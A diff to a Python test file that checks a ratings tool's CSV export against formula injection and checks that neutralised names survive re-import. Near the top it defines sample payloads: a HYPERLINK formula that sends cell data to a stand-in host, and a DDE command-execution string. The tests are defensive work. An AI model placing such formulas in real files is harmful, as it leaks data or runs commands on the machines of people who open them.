@@ -1,17 +1,21 @@
 """CSV formula injection (OWASP "CSV Injection"): every CSV the product writes neutralises a
-cell that a spreadsheet would run as a formula, and leaves plain numbers alone."""
+cell that a spreadsheet would run as a formula, and leaves plain numbers alone; the files it
+reads back (a register exported and imported again) read the cells as they were."""
 
 from __future__ import annotations
 
 import csv
 import io
+import itertools
+import re
 from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
 
 from ratings.cli import cli
-from ratings.io.csv_out import neutralise, write_csv
+from ratings.io.csv_out import neutralise, restore, write_csv
+from tests.conftest import init_database, table_rows
 
 HYPERLINK = '=HYPERLINK("http://x/?d="&A1,"click")'
 PLUS = "+cmd|' /C calc'!A0"
@@ -137,3 +141,54 @@ def test_sql(club: Path) -> None:
         ["name", "n", "x", "s", "'=h"],
         *[["'" + p, "-12", "-0.25", "'-2+3", "1"] for p in PAYLOADS],
     ]
+
+
+def test_restore_reads_back_what_neutralise_wrote() -> None:
+    """Every value up to five characters of these, neutralised and read back, is itself,
+    but one that holds a quote before a formula character (``'=x`` reads as ``=x``: the
+    one ambiguity, documented in restore)."""
+    alphabet = ["'", ";", "=", "-", "a", "1", '"', "\t", "\n", "@"]
+    checked = 0
+    for n in range(1, 6):
+        for chars in itertools.product(alphabet, repeat=n):
+            value = "".join(chars)
+            if re.search("'[=+\\-@\t\r]", value):
+                continue
+            assert restore(neutralise(value)) == value, repr(value)
+            checked += 1
+    assert checked > 50_000
+    assert restore("'t Hooft, Gerard") == "'t Hooft, Gerard"
+    assert restore("'-12") == "-12"
+
+
+def test_a_register_with_formula_like_names_goes_back_unchanged(tmp_path: Path) -> None:
+    """Seen: ``player list --format csv`` wrote ``'=Smith, John`` (neutralised), and
+    ``import players --update`` of that file renamed the player ``'=Smith, John``."""
+    db = init_database(tmp_path / "reg.db")
+    runner = CliRunner()
+
+    def ok(*args: str) -> str:
+        result = runner.invoke(cli, ["--db", db, *args])
+        assert result.exit_code == 0, result.output
+        return result.stdout
+
+    for name in ("=Smith, John", "+Plus, Ann", "@At, Bo", "-Minus, Cy", "Semi;=colon, Di"):
+        ok("player", "add", "--rating", "1800", "--games", "30", "--", name)
+    before = ok("player", "list", "--format", "csv")
+    assert "'=Smith, John" in before
+    sheet = tmp_path / "register.csv"
+    sheet.write_text(before, encoding="utf-8")
+    assert ok("import", "players", "--update", str(sheet)).splitlines()[-1] == (
+        f"Imported 0 new players, updated 0 (5 unchanged) from {sheet}"
+    )
+    assert ok("player", "list", "--format", "csv") == before
+    # into another database (the ids dropped): the names as registered, not with the quote
+    rows = list(csv.reader(io.StringIO(before)))
+    moved = tmp_path / "moved.csv"
+    with moved.open("w", newline="", encoding="utf-8") as out:
+        csv.writer(out).writerows(row[1:] for row in rows)
+    other = init_database(tmp_path / "other.db")
+    result = runner.invoke(cli, ["--db", other, "import", "players", str(moved)])
+    assert result.exit_code == 0, result.output
+    names = {n for (n,) in table_rows(other, "SELECT name FROM players")}
+    assert names == {"=Smith, John", "+Plus, Ann", "@At, Bo", "-Minus, Cy", "Semi;=colon, Di"}
